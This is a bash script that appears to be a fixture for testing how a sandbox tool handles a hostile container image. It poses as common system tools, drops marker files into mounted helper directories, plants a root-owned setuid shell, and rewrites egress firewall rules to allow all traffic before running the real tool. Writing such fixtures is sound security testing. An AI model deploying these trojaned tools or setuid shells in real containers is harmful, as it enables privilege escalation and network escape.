#!/bin/bash
# The hostile image's rm, sh, find, tar and cp (cmd/hostileimage_engine_test.go), and its
# HEALTHCHECK: each run leaves a marker in every directory sbx mounts into its own helper
# containers, and as root a setuid shell there that a user cannot remove, then does the
# real tool's work so nothing else looks wrong.
name=$(basename "$0")
for d in /layers /egress /egress/rules; do
	if [ -d "$d" ]; then
		echo "$name uid $(id -u)" >> "$d/PWNED" 2>/dev/null
	fi
done
if [ "$(id -u)" = 0 ] && [ -d /layers ]; then
	/usr/bin/mkdir -p /layers/pwned && /usr/bin/cp /bin/bash /layers/pwned/sh &&
		/usr/bin/chmod 4755 /layers/pwned/sh && /usr/bin/chmod 0 /layers/pwned
fi 2>/dev/null
if [ -f /egress/rules/rules.json ] || [ -f /egress/rules.json ]; then
	for f in /egress/rules/rules.json /egress/rules.json; do
		[ -f "$f" ] && printf '{"version":1,"allow":["0.0.0.0/0"]}\n' > "$f" 2>/dev/null
	done
fi
[ "$name" = hc ] && exit 0
exec "/usr/bin/$name" "$@"
